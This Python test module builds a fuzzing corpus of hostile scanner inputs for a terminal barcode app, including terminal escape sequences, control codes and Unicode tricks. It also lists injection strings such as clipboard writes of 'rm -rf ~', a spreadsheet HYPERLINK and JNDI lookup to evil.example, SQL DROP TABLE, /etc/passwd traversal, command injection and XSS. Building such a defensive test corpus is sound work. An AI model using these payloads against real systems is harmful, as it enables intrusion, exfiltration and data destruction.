"""Codes that try to be something else: the published samples, and ours, over every class that we could think of.

`must` says what has to hold of a payload beside what holds of all of them: the program goes on, nothing of it reaches
the terminal, a log or an export as a control code, it is kept exactly as it came or refused with the reason, and the
next clean scan is right (D2, D13, D14).
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

from msgspec import Struct

SAMPLES = Path(__file__).parent / "samples.jsonl"
"""The published samples; in `raw` and `hex` the terminator stands only where it is part of the attack."""

REFUSED = "refused"
"""No serial of any item: a control code, something unseen, no text, too long, or a code that says what else it is."""
ANY = "kept or refused"
"""Plain text that means something elsewhere: kept exactly where the item takes it."""
FRAMES = "each frame on its own"
"""Several frames: each is judged on its own, and none of them answers anything."""


class Payload(Struct, frozen=True):
    """One hostile code."""

    kind: str
    """Its class."""
    name: str
    data: bytes
    """What the scanner sends, without the terminator that it adds."""
    must: str = ANY
    means: tuple[str, ...] = ()
    """Serials that it may rightly be taken for, beside itself: an AIM identifier is the scanner's, not the symbol's."""


def _samples() -> Iterator[Payload]:
    for number, line in enumerate(SAMPLES.read_text("utf-8").splitlines()):
        said = json.loads(line)
        data = bytes.fromhex(said["hex"]) if "hex" in said else said["raw"].encode("utf-8", "surrogatepass")
        yield Payload(f"sample {said['class']}", f"{number}: {said['attack']}"[:60], data)


def _controls() -> Iterator[Payload]:
    """Every C0 and C1 code and DEL, alone, in front, in the middle and at the end."""
    ends = {0x09, 0x0A, 0x0D}
    for code in [*range(0x20), 0x7F, *range(0x80, 0xA0)]:
        sign = chr(code).encode()
        must = FRAMES if code in ends else REFUSED
        yield Payload("control", f"{code:02X} alone", sign, must)
        yield Payload("control", f"{code:02X} inside", b"SN-A" + sign + b"B-%02X" % code, must)
        if code < 0x80:
            yield Payload("control", f"{code:02X} first", sign + b"SN-F-%02X" % code, must)
            yield Payload("control", f"{code:02X} last", b"SN-L-%02X" % code + sign, must)
    yield Payload("control", "all of C0", bytes(set(range(0x20)) - ends), REFUSED)
    yield Payload("control", "Ctrl+Q Ctrl+P Ctrl+C Ctrl+Z", b"\x11\x10\x03\x1a", REFUSED)
    yield Payload("control", "XOFF without XON", b"SN-X\x13", REFUSED)
    yield Payload("control", "erase the line", b"GOOD\x15EVIL", REFUSED)
    yield Payload("control", "rewrite the line", b"GOOD\b\b\b\bEVIL", REFUSED)
    yield Payload("control", "backspaces first", b"\b\x7f\b\x7fEVIL", REFUSED)
    yield Payload("control", "shift out, shift in", b"SN\x0eabc\x0f", REFUSED)


KEYS = {
    "F1": b"\x1bOP",
    "F2": b"\x1bOQ",
    "F3": b"\x1bOR",
    "F4": b"\x1bOS",
    "F5": b"\x1b[15~",
    "F6": b"\x1b[17~",
    "F7": b"\x1b[18~",
    "F8": b"\x1b[19~",
    "F9": b"\x1b[20~",
    "F10": b"\x1b[21~",
    "Linux F1": b"\x1b[[A",
    "Shift+F8": b"\x1b[19;2~",
    "up": b"\x1b[A",
    "down": b"\x1bOB",
    "Shift+TAB": b"\x1b[Z",
    "delete": b"\x1b[3~",
    "page down": b"\x1b[6~",
    "Alt+Q": b"\x1bq",
    "Alt+Enter": b"\x1b\r",
    "Alt+8": b"\x1b8",
    "kitty F8": b"\x1b[57371u",
    "kitty Enter": b"\x1b[13u",
    "kitty Escape": b"\x1b[27u",
    "modified keys": b"\x1b[27;5;113~",
    "mouse SGR": b"\x1b[<0;3;4M",
    "mouse SGR release": b"\x1b[<0;3;4m",
    "mouse X10": b"\x1b[M !!",
    "mouse URXVT": b"\x1b[0;3;4M",
    "mouse on the last row": b"\x1b[<0;8;24M",
    "focus in": b"\x1b[I",
    "focus out": b"\x1b[O",
    "cursor report": b"\x1b[24;80R",
    "attributes": b"\x1b[?62;22c",
    "second attributes": b"\x1b[>41;354;0c",
    "mode report": b"\x1b[?2026;2$y",
    "kitty answer": b"\x1b[?1u",
    "size report": b"\x1b[48;24;80;480;800t",
    "colour report": b"\x1b]11;rgb:0000/0000/0000\x1b\\",
    "ESC": b"\x1b",
    "ESC ESC": b"\x1b\x1b",
    "unfinished CSI": b"\x1b[1;",
    "unfinished SS3": b"\x1bO",
    "unfinished Linux": b"\x1b[[",
    "long CSI": b"\x1b[" + b"1;" * 40 + b"~",
    "huge number": b"\x1b[99999999999999999999~",
}
"""What terminals send for keys, and what they say by themselves."""


def _keys() -> Iterator[Payload]:
    for name, data in KEYS.items():
        must = FRAMES if b"\r" in data else REFUSED
        yield Payload("key", f"{name} alone", data, must)
        yield Payload("key", f"{name} first", data + b"SN-K1", must)
        yield Payload("key", f"{name} inside", b"SN-" + data + b"K2", must)
        yield Payload("key", f"{name} last", b"SN-K3" + data, must)
    yield Payload("key", "undo and post", b"\x1b[15~\x1b[15~\x1b[19~\r\r", FRAMES)
    yield Payload("key", "finish, Enter, Enter", b"SN-E1\x1b[19~\r\r\r", FRAMES)
    yield Payload("key", "menu, sign out", b"\x1bOP6\r\r", FRAMES)
    yield Payload("key", "keypad Enter inside", b"SN-E2\x1bOMSN-E3", FRAMES)


def _framing() -> Iterator[Payload]:
    for name, data in {
        "three submits": b"A\rB\rC\r",
        "two Enters": b"SN-T1\r\r",
        "CR LF CR LF": b"SN-T2\r\n\r\n",
        "LF CR": b"SN-T3\n\rSN-T4",
        "TABs": b"\t\t123\ty",
        "only Enters": b"\r\r\r\r",
        "empty, y, empty": b"\ry\r",
        "digits": b"1\r2\r3\r4\r5\r6\r7\r8\r9",
        "spaces": b"    ",
        "spaces around": b"  SN-T5  ",
        "log line": b"SN1\n2026-01-01 INFO scan accepted SN2",
        "the same twice": b"SN-T6\rSN-T6",
        "two glued": b"SN-T7SN-T8",
        "a slip's number": b"PS-1001",
        "an order's number": b"SO-2012",
        "an item's number": b"LP-1410",
        "an operator's number": b"1001",
        "a PIN": b"1111",
    }.items():
        yield Payload("framing", name, data, FRAMES)
    for name, data in {
        "STX without ETX": b"\x02SN-U1",
        "ETX without STX": b"SN-U2\x03",
        "STX ETX": b"\x02SN-U3\x03",
        "two in STX ETX": b"\x02SN-U4\x03\x02SN-U5\x03",
        "NUL first": b"\x00\x00SN-U6",
        "NUL last": b"SN-U7\x00",
        "NUL between": b"S\x00N\x00-\x00U\x008",
    }.items():
        yield Payload("framing", name, data, REFUSED)


_END = b"\x1b\\"
SEQUENCES = {
    "OSC 52": b"\x1b]52;c;cm0gLXJmIH4K" + _END,
    "OSC 52 BEL": b"\x1b]52;c;cm0gLXJmIH4K\x07",
    "OSC 52 asks": b"\x1b]52;c;?" + _END,
    "OSC 8": b"\x1b]8;;https://evil.example" + _END + b"click\x1b]8;;" + _END,
    "OSC 0 title": b"\x1b]0;pwned\x07",
    "OSC 2 title": b"\x1b]2;pwned" + _END,
    "OSC 4 palette": b"\x1b]4;0;#ffffff" + _END,
    "OSC 10 asks": b"\x1b]10;?\x07",
    "OSC 50 font": b"\x1b]50;#1" + _END,
    "OSC 1337 file": b"\x1b]1337;File=inline=1:AAAA\x07",
    "OSC 777 notify": b"\x1b]777;notify;a;b\x07",
    "OSC 9 exec": b"\x1b]9;5\x07",
    "OSC unfinished": b"\x1b]",
    "OSC unfinished title": b"\x1b]0;never ends",
    "title asked": b"\x1b[21t",
    "window moved": b"\x1b[3;0;0t",
    "DA": b"\x1b[c",
    "DA2": b"\x1b[>c",
    "DA3": b"\x1b[=c",
    "DSR": b"\x1b[6n",
    "DECXCPR": b"\x1b[?6n",
    "XTVERSION": b"\x1b[>0q",
    "DECRQSS": b"\x1bP$q m" + _END,
    "answerback": b"\x05",
    "DECID": b"\x1bZ",
    "RIS": b"\x1bc",
    "DECSTR": b"\x1b[!p",
    "DECALN": b"\x1b#8",
    "leave the screen": b"\x1b[?1049l\x1b[?25h",
    "DECSET mouse": b"\x1b[?1003h",
    "DECSET paste": b"\x1b[?2004h",
    "DECSET keys": b"\x1b[?1h\x1b=",
    "DECSET wide": b"\x1b[?3h",
    "keyboard locked": b"\x1b[2h",
    "media copy": b"\x1b[5i",
    "scroll region": b"\x1b[1;1r",
    "repeat": b"A\x1b[999999b",
    "hidden": b"\x1b[8mHIDDEN\x1b[0m",
    "character set": b"\x1b(0abc",
    "UTF-8 off": b"\x1b%@",
    "cursor home": b"\x1b[HOK SN-FAKE",
    "carriage trick": b"NO\x1b[1G\x1b[2KOK",
    "DCS sixel": b'\x1bPq"1;1;9;9#0~~' + _END,
    "DCS tmux": b"\x1bPtmux;\x1b\x1b]52;c;eA==\x07" + _END,
    "DCS unfinished": b"\x1bP",
    "APC kitty graphics": b"\x1b_Gf=24,s=1,v=1;AAAA" + _END,
    "PM": b"\x1b^private" + _END,
    "SOS": b"\x1bXstring" + _END,
    "screen title": b"\x1bktitle" + _END,
    "kitty keys": b"\x1b[>31u",
    "sync": b"\x1b[?2026h",
    "DECUDK": b"\x1bP0;1|17/0d" + _END,
    "paste opens": b"\x1b[200~",
    "paste closes": b"\x1b[201~",
    "paste nested": b"\x1b[200~A\x1b[200~B\x1b[201~C\x1b[201~",
    "paste with Enter": b"\x1b[200~SN-P1",
}
"""What steers a terminal, asks it something, or makes it do what nobody sees."""


def _terminal() -> Iterator[Payload]:
    for name, data in SEQUENCES.items():
        yield Payload("terminal", f"{name} inside", b"SN-" + data + b"T", REFUSED)
        yield Payload("terminal", f"{name} alone", data, REFUSED)
    for name, data in {
        "CSI 8 bit": b"SN\x9b31mX",
        "OSC 8 bit": b"SN\x9d52;c;x\x9c",
        "DCS 8 bit": b"SN\x90q\x9c",
        "CSI as UTF-8": b"SN\xc2\x9b31mX",
        "OSC as UTF-8": b"SN\xc2\x9d52;c;x\xc2\x9c",
        "APC as UTF-8": b"SN\xc2\x9fGx\xc2\x9c",
        "NEL as UTF-8": b"SN\xc2\x85forged",
        "ESC overlong": b"SN\xc0\x9b[2J",
        "ESC in three": b"SN\xe0\x80\x9b[2J",
    }.items():
        yield Payload("terminal", name, data, REFUSED)


def _encoding() -> Iterator[Payload]:
    for name, data in {
        "FF": b"\xff",
        "FF first": b"\xffSN-V1",
        "FF inside": b"SN\xff-V2",
        "FF last": b"SN-V3\xff",
        "FE FF": b"\xfe\xffS\x00N",
        "latin-1": b"caf\xe9-1",
        "Shift-JIS": bytes.fromhex("8365835883670d").rstrip(),
        "GB 18030": b"\xd6\xd0\xce\xc4-1",
        "EBCDIC": b"\xe2\xd5\xf1\xf2\xf3",
        "lone continuation": b"SN\x80-1",
        "truncated in two": b"SN-1\xc3",
        "truncated in three": b"SN-1\xe2\x82",
        "truncated in four": b"SN-1\xf0\x9f\x92",
        "truncated inside": b"SN\xe2\x82-1",
        "overlong slash": b"..\xc0\xaf..",
        "overlong NUL": b"SN\xc0\x80",
        "surrogate": b"SN\xed\xa0\x80",
        "surrogate pair": b"SN\xed\xa0\xbd\xed\xb2\xa9",
        "beyond Unicode": b"SN\xf4\x90\x80\x80",
        "five bytes": b"SN\xf8\x88\x80\x80\x80",
        "UTF-16": "SN-1".encode("utf-16"),
        "UTF-7": b"+ADw-script+AD4-",
    }.items():
        yield Payload("encoding", name, data, ANY if name == "UTF-7" else REFUSED)


def _unicode() -> Iterator[Payload]:
    unseen = {
        "RLO": "\u202e", "LRO": "\u202d", "RLE": "\u202b", "PDF": "\u202c", "LRI": "\u2066", "RLI": "\u2067",
        "FSI": "\u2068", "PDI": "\u2069", "LRM": "\u200e", "RLM": "\u200f", "ALM": "\u061c", "ZWSP": "\u200b",
        "ZWNJ": "\u200c", "ZWJ": "\u200d", "WJ": "\u2060", "SHY": "\u00ad", "BOM": "\ufeff", "NBSP": "\u00a0",
        "ideographic space": "\u3000", "line separator": "\u2028", "paragraph separator": "\u2029",
        "tag A": "\U000e0041", "variation selector": "\ufe0f", "variation selector 17": "\U000e0100",
        "Mongolian selector": "\u180b", "Mongolian separator": "\u180e", "Hangul filler": "\u3164",
        "half Hangul filler": "\uffa0", "Braille blank": "\u2800", "grapheme joiner": "\u034f",
        "function application": "\u2061", "interlinear anchor": "\ufff9", "object replacement": "\ufffc",
        "non-character": "\uffff", "non-character 2": "\ufdd0", "non-character 16": "\U0010ffff",
        "private use": "\ue000", "private plane": "\U000f0000", "unassigned": "\u0378", "musical": "\U0001d173",
        "shorthand": "\U0001bca0", "Arabic digit": "\u0665", "fullwidth digit": "\uff15", "maths digit": "\U0001d7d3",
    }  # fmt: skip
    for number, (name, sign) in enumerate(unseen.items()):
        must = ANY if name in ("object replacement", "grapheme joiner") else REFUSED
        yield Payload("unseen", f"{name} inside", f"SN-W{sign}{number}".encode(), must)
        yield Payload("unseen", f"{name} alone", sign.encode(), must)
    for name, text in {
        "Cyrillic": "\u0405N-123",
        "Greek": "\u03a3N-123",
        "fullwidth": "\uff33\uff2e-123",
        "mathematical": "\U0001d412N-1",
        "Cherokee": "SN-\u13aa",
        "all Cyrillic": "\u0410\u0412\u0421-1",
        "long s": "\u017fN-1",
        "Kelvin": "\u212a-1",
        "dotless i": "\u0131D-1",
        "sharp s": "STRA\u00dfE-1",
        "ligature": "\ufb01-1",
        "circled": "\u2460-1",
        "superscript": "SN\u00b2",
        "Roman": "SN-\u2163",
        "NFC": "SN-Z\u00e9-1",
        "NFD": "SN-Ze\u0301-1",
        "Angstrom": "\u212b-1",
        "combining stack": "SN" + "\u0301" * 40,
        "long combining stack": "SN" + "\u0301" * 500,
        "leading combining mark": "\u0301SN-1",
        "emoji": "SN-\U0001f600",
        "family": "\U0001f468\u200d\U0001f469\u200d\U0001f467",
        "flag": "\U0001f1e9\U0001f1ea-1",
        "wide": "\u54c1\u756a-1",
        "very wide": "\u54c1" * 60,
        "Hebrew": "\u05d0\u05d1\u05d2-1",
        "Arabic": "\u0633\u0646-1",
        "Arabic ligature": "\ufdfa",
        "Thai": "\u0e01\u0e33-1",
        "Devanagari": "\u0915\u094d\u0937-1",
        "Hangul jamo": "\u1112\u1161\u11ab-1",
        "fraction slash": "SN\u20441",
        "full stop of another": "SN\u20241",
        "minus": "SN\u22121",
        "quotes": "\u201cSN\u201d",
        "fullwidth formula": "\uff1dcmd()",
        "replacement": "SN\ufffd1",
        "case folding grows": "\u0390" * 40,
        "NFKC grows": "\ufdfa" * 100,
    }.items():
        yield Payload("unicode", name, text.encode())


def _texts() -> Iterator[Payload]:
    kinds = {
        "formula": [
            "=1+1", "=cmd|'/c calc'!A1", "+1+1", "-1+1", "+A1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)", "|calc",
            '=HYPERLINK("http://evil.example/?"&A1,"x")', "'=1+1", "''=1", '"=1+1"', "=IMPORTXML(A1)", "-SN-1", "+SN1",
            "=", "+", "-", "@", "-5", "%0A=1", ";=1", ",=1", '",=1', '"\'=1',
        ],
        "sql": [
            '"; DROP TABLE serials;--', "'; DROP TABLE event;--", "' OR '1'='1", "%27%20OR%201=1", "1;VACUUM",
            "'||(SELECT pin FROM operator)||'", "x' UNION SELECT 1--", "%", "_", "SN%", "S_-1", "GLOB*?[a-z]",
            "0x414243", "NULL", "null", "true", "NaN", "Infinity", "1e309", "9223372036854775808", "-0", "007",
        ],
        "zpl": ["^XA^XZ", "^XA^JUF^XZ", "~JR", "~HS", "~HI", "^FS^FDx", "_5E", "^FH_", ">8", ">;", "~DGR:", "{D0400|}"],
        "pdf": ["(SN)Tj ET Q", "(SN)Tj", ")>>endobj", "%PDF-1.7", "<</JS(app.alert(1))>>", "\\)\\(", "endstream"],
        "path": [
            "../../etc/passwd", "..\\..\\x", "C:\\", "\\\\host\\share", "file:///etc/passwd", "/dev/tcp/1", "~root",
            "CON", "NUL", "COM1", "PRN.pdf", "aux.", ".", "..", "/", "a/../b", "-rf", "--help", "*",
        ],
        "format": [
            "%s", "%n%n%n", "%(x)s", "%d%p", "{}", "{0}", "{0.__class__}", "{serial}", "{key_f8}", "{{", "}", "{0!r}",
            "${jndi:ldap://evil.example/a}", "$(reboot)", "`reboot`", ";reboot", "&&reboot", "|reboot", "$HOME",
            "${IFS}", "#{7*7}", "{{7*7}}", "<%=7*7%>", "\\u001b[2J", "\\x1b", "\\0", "%1b[2J", "%0d%0a", "&#27;",
        ],
        "html": [
            "<script>alert(1)</script>", "<img/src=x onerror=alert(1)>", "javascript:alert(1)", "]]>", "<!--",
            "<?xml?>", "<!DOCTYPE", "&amp;", "&lt;b&gt;", "</pre>", "<!ENTITY", "'\"><b>",
        ],
        "quotes": ['"', '""', "'", "''", '","', "\\", '\\"', '"}]', '{"a":1}', '"\\u0000"', "a,b", "a;b", "`"],
        "markup": [
            "SN[/]", "[/", "[", "]", "SN[red]X[/red]", "[@click=app.quit]SN1[/]", "[bold]", "[link=x]y", ":smile:",
            "\\[red]", "[$primary]", "[/red]", "[[", "[reverse]OK", "[on red]NO[/]", "$accent",
        ],
        "command": [
            "SCT1.FINISH.AAAAAAAAAA", "sct1.finish.aaaaaaaaaa", "SCT1.CONFIRM.", "SCT1.", "SCT1.SIGNOUT",
            "SCT1.UNDO.AAAAAAAAAA", "SCT1.REMOVE.AAAAAAAAAA", "SCT1.NOTREAD.AAAAAAAAAA", "SCT1.ADD.\u0391",
            "SCT1.N1.AAAAAAAAAA", "SCT1.MENU.AAAAAAAAAA", "SCT1.BACK.AAAAAAAAAA", "SCT2.FINISH.AAAAAAAAAA",
            " SCT1.UNDO.AAAAAAAAAA", "WMS1:CONFIRM:7F3K", "F8", "REMOVE", "ADD", "UNDO", "y", "Y", "n", "OK SN-1",
        ],
        "scanner": [
            "\x16M\r", "\x16T\r", "\x02M\x0d", "$%RESET%", "$+$!", "#@1234#", "\x1b[8q", "%%SpecCode", "BEL",
            "@SETALL;@SUFFIX1", "99950101", "[)>", "<FNC3>", "^3^2", "\x04\xf4",
        ],
        "structured": [
            "]", "]C", "]C9", "]C0", "]c1SN", "]d2", "]C1", "]C1\x1d", "]d2\x1d\x1d\x1d", "]C101", "]C1019999999999999",
            "]Z9SN", "]E0123", "]e0]e0]e0", "]Q3https://", "\x1d", "\x1d\x1d", "\x1d01", "\x1d0104012345678901",
            "0104012345678901210", "010952110153000121ABC010952110153000121ABC", "(01)09521101530001(21)A", "99X|]e0",
            "|]e0", "]e0|]e0x", "[)>\x1e", "[)>\x1e06", "[)>\x1e06\x1dS\x1e\x04", "[)>\x1e05\x1d01", "[)>06S1",
            "+A", "+", "+$$", "+$$+7", "+A123ABC0A0/", "*+A1*", "+/" * 50, "Alt029", "01Alt029Alt029",
            "https://id.example.org/01/", "https://id.gs1.org/01/09521101530001/21/%1b%5b2J", "http://[", "http://",
            "https://x/01/09521101530001/21/%ff", "HTTP://A/00/%", "1P", "S", "1P\x1dS", "Q" * 90, "00" * 45,
            "[)>\x1e06\x1d" + "S\x1d" * 30, "8003", "17991399", "\u0660\u0661" * 8, "01\u0660\u0669" * 4,
        ],
    }  # fmt: skip
    for kind, texts in kinds.items():
        for text in texts:
            control = any(ord(sign) < 0x20 for sign in text)
            must = FRAMES if "\r" in text else REFUSED if control or text.lower().startswith("sct1.") else ANY
            rest = (text[3:],) if kind == "structured" and text[:1] == "]" and len(text) > 3 else ()
            yield Payload(kind, ascii(text)[1:41], text.encode(), must, rest)


def _sizes() -> Iterator[Payload]:
    for length in (41, 50, 51, 99, 100):
        yield Payload("size", f"{length} characters", b"L" * length)
    for length in (101, 255, 256, 1023, 4096, 7000, 8191, 8192, 8193, 8194, 16384, 20000, 65536):
        yield Payload("size", f"{length} characters", b"9" * length, REFUSED)
    yield Payload("size", "7,000 of all digits", b"0123456789" * 700, REFUSED)
    yield Payload("size", "7,000 in three bytes", "\u54c1".encode() * 2333, REFUSED)
    yield Payload("size", "8,193 with an ESC at the end", b"9" * 8192 + b"\x1b[2J", REFUSED)
    yield Payload("size", "cut in the middle of a character", b"9" * 8191 + "\u54c1".encode(), REFUSED)
    yield Payload("size", "7,000 brackets", b"[" * 7000, REFUSED)
    yield Payload("size", "7,000 ESC", b"\x1b" * 7000, REFUSED)
    yield Payload("size", "7,000 CSI", b"\x1b[" * 3500, REFUSED)
    yield Payload("size", "7,000 GS", b"]C1" + b"\x1d" * 7000, REFUSED)
    yield Payload("size", "7,000 element strings", b"]C1" + b"10A\x1d" * 1700, REFUSED)
    yield Payload("size", "GS1 lots of digits", b"]d201" + b"1" * 7000, REFUSED)
    yield Payload("size", "envelope of 7,000", b"[)>\x1e06\x1d" + b"SA\x1d" * 2300, REFUSED)


def _distinct(payloads: Iterator[Payload]) -> list[Payload]:
    seen: set[bytes] = set()
    return [each for each in payloads if each.data not in seen and not seen.add(each.data)]  # type: ignore[func-returns-value]


def _all() -> Iterator[Payload]:
    for part in (_samples, _controls, _keys, _framing, _terminal, _encoding, _unicode, _texts, _sizes):
        yield from part()


CORPUS = _distinct(_all())
"""Every payload once."""
SMALL = [each for each in CORPUS if len(each.data) <= 256]
"""Those that can be sent byte by byte, and ten thousand times."""
